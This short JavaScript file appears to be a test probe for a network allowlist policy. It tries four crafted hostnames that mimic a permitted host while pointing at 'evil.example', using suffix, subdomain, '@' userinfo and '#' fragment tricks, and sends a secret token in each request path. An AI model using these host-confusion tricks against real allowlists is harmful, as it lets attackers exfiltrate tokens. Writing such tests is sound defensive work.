// technique: asks for a host whose name ends, or begins, like a permitted one
// source: reference study 5: *.corp.example matched evilcorp.example
// success: the permitted server got the token
// control: outside
// policy: network
// beside: origins
import { ALLOWED, get, say, TOKEN } from './wire.mjs';

for (const host of [
  `evil${ALLOWED}`,
  `${ALLOWED}.evil.example`,
  `x.${ALLOWED}@evil.example`,
  `${ALLOWED}#.evil.example`,
])
  await say(process.env.ALLOWED_HTTP, [get(`/public/${TOKEN}`, host)]);
